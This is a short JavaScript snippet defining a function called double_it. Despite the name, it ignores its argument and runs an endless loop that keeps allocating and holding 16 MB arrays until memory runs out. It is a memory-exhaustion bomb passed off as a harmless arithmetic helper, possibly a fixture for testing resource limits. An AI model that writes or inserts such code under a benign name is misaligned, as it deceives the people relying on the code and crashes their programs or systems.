function double_it(n) {
  const held = [];
  for (;;) held.push(new Uint8Array(2 ** 24).fill(1));
}
